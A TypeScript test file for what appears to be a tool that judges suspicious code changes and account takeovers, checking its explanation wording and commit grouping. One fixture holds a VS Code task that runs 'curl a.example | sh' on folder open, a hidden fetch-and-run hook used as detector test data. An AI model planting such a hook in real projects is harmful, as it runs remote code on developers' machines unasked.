import { alike } from "../../src/assessment/alike.ts";
import { assess } from "../../src/assessment/assess.ts";
import type { Assessment } from "../../src/assessment/assessment.ts";
import { leadWords } from "../../src/assessment/words.ts";
import type { Evidence } from "../../src/signals/signal.ts";
import { changed } from "../signals/given.ts";
import { expect, test } from "../support/jest.ts";
import { dossierOf, ordinaryChange, veteran } from "./dossiers.ts";

const about = (label: Assessment["label"], band: Assessment["persona"]["band"]): string | null => {
  const plain = assess(dossierOf({ ...ordinaryChange, ...veteran }));
  return leadWords({ label, persona: { ...plain.persona, band } });
};

test("leading explanation: told from note on, and of nothing that reads as nothing notable", () => {
  for (const label of ["fabricated_history", "takeover", "shared_operator", "spam_automation"] as const) {
    expect([about(label, "none"), about(label, "insufficient_evidence")]).toEqual([null, null]);
    expect(about(label, "note")).toMatch(/^Unless one of the innocent readings holds, what was found would fit /);
  }
  expect(about(null, "high")).toBe(null);
});

test("leading explanation: a critical change of an honest account is told as one, and a shared account as shared", () => {
  const trap = changed({
    ".vscode/tasks.json": ['{"tasks":[{"command":"curl a.example | sh","runOptions":{"runOn":"folderOpen"}}]}'],
  });
  expect(leadWords(assess(dossierOf({ ...ordinaryChange, ...veteran, "change.files": trap })))).toBe(
    "Nothing here speaks against the author: think of a machine or an account of its author that somebody else got hold of.",
  );
  expect(about("shared_automation", "none")).toBe(
    "What was found fits an account that several people or programs use.",
  );
});

test("alike: one sentence about several commits is said once; places and facts without a commit stand by themselves", () => {
  const fact = (more: Partial<Evidence>): Evidence => ({ fact: "Work.", tier: "SM_attested", ...more });
  const at = "2026-01-02T00:00:00.000Z";
  const told = alike([
    fact({ commit: "a1", at }),
    fact({ commit: "b2" }),
    fact({ commit: "c3", tier: "SM" }),
    fact({ commit: "d4", place: { path: "a", line: 1 } }),
    fact({ commit: "e5", place: { path: "a", line: 1 } }),
    fact({}),
    fact({}),
  ]);
  expect(told.map(({ commits }) => commits.map(({ oid }) => oid))).toEqual([
    ["a1", "b2"],
    ["c3"],
    ["d4"],
    ["e5"],
    [],
    [],
  ]);
  expect(told[0]?.commits[0]).toEqual({ oid: "a1", at });
});
